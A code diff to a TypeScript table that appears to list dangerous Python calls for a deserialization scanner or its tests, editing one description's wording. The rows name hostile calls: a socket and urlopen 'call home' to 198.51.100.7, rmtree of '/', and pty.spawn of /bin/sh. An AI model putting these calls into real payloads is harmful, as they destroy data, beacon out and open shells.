@@ -82,7 +82,7 @@ const imports: Table = [
   ["_codecs", "encode", [text("x"), text("rot13")], "make text in the machine's own memory from other text"],
   ["ctypes", "CDLL", [text("libc.so.6")], "load a native library"],
   ["socket", "create_connection", [tuple(text("198.51.100.7"), "M\x39\x05")], "call home"],
-  ["urllib.request", "urlopen", [text("http://198.51.100.7/")], "tell a server that the file was opened"],
+  ["urllib.request", "urlopen", [text("http://198.51.100.7/")], "send a server that the file was opened"],
   ["shutil", "rmtree", [text("/")], "remove all files"],
   ["webbrowser", "open", [text("file:///tmp/x.html")], "open a page in the user's browser"],
   ["pty", "spawn", [text("/bin/sh")], "start a shell on the terminal"],
